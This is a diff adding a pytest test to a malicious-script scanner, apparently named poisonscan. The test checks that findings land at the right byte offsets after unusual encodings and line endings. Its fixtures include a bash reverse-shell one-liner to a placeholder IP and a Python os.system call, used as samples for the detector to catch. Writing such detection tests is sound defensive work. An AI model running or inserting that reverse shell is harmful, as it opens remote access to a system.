@@ -13,8 +13,11 @@ from poisonscan.detectors.models.script_acts import Weight, acts
 from poisonscan.detectors.models.script_code import DETECTOR
 from poisonscan.detectors.models.script_moments import Moment
 from poisonscan.detectors.models.script_names import Names
+from poisonscan.finding import Span
 from poisonscan.formats.base import Script
-from poisonscan.formats.scripts import Unparsed, parse
+from poisonscan.formats.scripts import PythonSource, ShellSource, Unparsed, parse
+from poisonscan.limits import Budget
+from poisonscan.sources.base import Blob
 
 
 def found(text: str, role: str = "module", language: str = "python") -> list[str]:
@@ -144,3 +147,27 @@ def test_any_source_is_read(text: str) -> None:
     if not isinstance(tree, Unparsed):
         list(acts(tree))
     found(text)
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "a = '\x0b\x0c\x1c\x1d\x1e\x85\u2028'\n".encode(),
+        b"\xef\xbb\xbfa = 1\r\n",
+        b"# coding: latin-1\na = '\xe9'\r",
+    ],
+)
+@pytest.mark.parametrize("name", ["x.py", "x.sh"])
+def test_a_finding_is_placed_in_the_bytes_of_the_file(before: bytes, name: str) -> None:
+    acts_ = {
+        "x.py": b"import os; os.system('x')\n",
+        "x.sh": b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1\n",
+    }
+    data = before + acts_[name]
+    blob = Blob(name, len(data), lambda: memoryview(data), file=name)
+    format_ = PythonSource() if name == "x.py" else ShellSource()
+    (script,) = format_.open(blob, blob.open(), Budget())
+    assert isinstance(script, Script)
+    (finding,) = DETECTOR.check(script)
+    assert isinstance(finding.at.part, Span)
+    assert data[finding.at.part.offset :].startswith((acts_[name][:6], b"/dev/tcp"))
